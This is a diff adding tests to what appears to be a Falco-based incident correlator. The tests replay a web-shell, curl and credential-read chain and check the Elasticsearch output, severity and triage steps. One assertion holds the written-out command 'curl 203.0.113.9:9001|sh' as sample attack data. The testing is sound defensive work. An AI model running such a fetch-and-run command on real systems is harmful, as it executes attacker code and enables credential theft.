@@ -50,6 +50,19 @@ def notes() -> list[Message]:
     return recorded()
 
 
+def test_field_case_p01_elasticsearch_takes_an_escalation_too(play: Play) -> None:
+    notes = play(
+        spec("php-fpm8.2 > sh", "web_shell"),
+        spec("php-fpm8.2 > sh > curl", "network", at="1s"),
+        spec("php-fpm8.2 > sh > cat", "credential", at="2s"),
+    )
+    mapping: dict[str, str] = {}
+    for note in notes:
+        in_elasticsearch(mapping, to_event(note, ORIGIN)["output_fields"])
+
+    assert [note.came_from for note in notes if isinstance(note, Notification)] == ["", "medium"]
+
+
 def test_elasticsearch_takes_every_notification_of_the_recordings_into_one_index(notes: list[Message]) -> None:
     mapping: dict[str, str] = {}
     report = Report("Correlator degraded", "high", "text", Where("h", "c", "", "", "n", "p"), 1)
@@ -98,6 +111,22 @@ def test_an_escalation_says_what_happened_first_and_then_where_to_look(play: Pla
         "1. Isolate the workload (in a cluster, its network plugin has to enforce network policies): echo "
     )
     assert "nginx > sh (sh -c 'curl 203.0.113.9:9001|sh')" in fields["incident.timeline"]
+
+
+def test_the_next_steps_have_whole_commands_and_say_where_the_others_are(notes: list[Message]) -> None:
+    for note in notes:
+        assert isinstance(note, Notification)
+        text = to_event(note)["output_fields"]["incident.next"]
+        steps, _, rest = text.partition("; all commands: ")
+        expected = "; ".join(
+            f"{number}. {words}: {command}" if command and command in text else f"{number}. {words}"
+            for number, (words, command) in enumerate(note.triage, 1)
+        )
+
+        assert expected.startswith(steps)
+        assert sum(command in steps for _, command in note.triage if command) >= 2
+        assert rest == f"falco-correlator incidents show {note.incident}"
+        assert to_event(note, ORIGIN)["output_fields"]["incident.next"].endswith(f"/prod-eu/incidents/{note.incident}")
 
 
 def test_an_address_that_only_the_command_names_is_in_the_output(play: Play) -> None:
